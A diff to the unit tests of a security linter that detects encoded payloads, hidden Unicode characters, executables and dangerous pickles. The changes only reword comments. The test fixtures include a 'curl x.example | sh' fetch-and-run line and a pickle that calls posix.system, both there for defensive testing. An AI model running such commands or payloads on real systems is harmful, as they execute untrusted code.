@@ -10,7 +10,8 @@
 #include "cases.h"
 #include "consent/lint_priv.h"
 
-/* Returns the ids of the findings in their order, each id once: "SSB403 SSB404". */
+/* Returns the ids of the findings in the order of the findings, each id only once: "SSB403
+ * SSB404". */
 static const char *ids_of(const struct lint *l, char *out, size_t size)
 {
 	out[0] = '\0';
@@ -79,13 +80,14 @@ static void test_prose_does_nothing_by_itself(void **state)
 	lint_bytes(&b, "x.sh", false, mention, strlen(mention));
 	assert_int_equal(b.v[0].level, LINT_ERROR);
 	assert_int_equal(b.grade, 'F');
-	/* An encoded payload in a text is an error, not only a mention. */
+	/* An encoded program in a text for readers (SKILL.md) is an error: it is not there to be
+	 * read. */
 	lint_bytes(&c, "x.md", false, payload, strlen(payload));
 	assert_int_equal(c.v[0].level, LINT_ERROR);
 	assert_int_equal(c.grade, 'F');
 }
 
-/* A kind of character is reported once for each line. */
+/* If a line has several suspicious characters of one kind, this is one finding. */
 static void test_characters_are_told_once(void **state)
 {
 	static const char text[] = "a\xe2\x80\xae\xe2\x80\xae\xe2\x80\x8b\xe2\x80\x8b\n"
@@ -107,8 +109,8 @@ static void test_bytes(void **state)
 	static const char pickle[] = "\x80\x04\x8c\x05posix\x8c\x06system\x93.";
 	static const char tame[] = "\x80\x04}\x94\x8c\x04opos\x94K\x01s.";
 	static const char nul[] = "#!/bin/bash\n\0\ncurl x.example | sh\n";
-	/* A name whose length has four bytes; and a name that first occurs as a part of another
-	 * name. */
+	/* Pickled names: one whose length has four bytes, and one that occurs earlier as a part of
+	 * another name. */
 	static const char long_name[] = "\x80\x02X\x05\0\0\0posixq\0.";
 	static const char later[] = "\x80\x04\x8c\x04opos\x94\x8c\x02os\x93.";
 	char windows[0x60] = "MZ";
@@ -130,7 +132,8 @@ static void test_bytes(void **state)
 	check("x.txt", "MZ begins a text", 16, "");
 }
 
-/* A file with a NUL in its first 4096 bytes is not text, and is not read as text. */
+/* A file with a NUL in its first 4096 bytes does not count as text: lint does not look for findings
+ * of texts in it. */
 static void test_no_text(void **state)
 {
 	static const char turns[] = "\xe2\x80\xae";
@@ -158,7 +161,8 @@ static void test_executable(void **state)
 	}
 }
 
-/* A finding in prose has a better grade than the same finding in code, and is not an error. */
+/* A finding in text for readers gives a better grade than the same finding in code, and is not an
+ * error. */
 static void test_prose_weighs_less(void **state)
 {
 	static const struct {
@@ -223,7 +227,8 @@ static void test_joined_lines(void **state)
 	check("a.sh", text.data, text.len, "SSB403");
 }
 
-/* A pattern is searched at most MAX_LINT_TRIES times in one line. More are reported as SSB308. */
+/* lint tries at most MAX_LINT_TRIES times to match a pattern in one line. If more tries would be
+ * needed, it reports SSB308. */
 static void test_tries(void **state)
 {
 	auto_buf text;
@@ -273,7 +278,7 @@ static void test_many_findings(void **state)
 	assert_int_equal(l.n, MAX_LINT_FINDINGS);
 	assert_true(l.cut);
 	assert_int_equal(l.grade, 'F');
-	/* The finding that there are more is added only once, at the end. */
+	/* The finding which says that there are more is added only once, at the end. */
 	lint_add_cut(&l);
 	lint_add_cut(&l);
 	assert_int_equal(l.n, MAX_LINT_FINDINGS + 1);
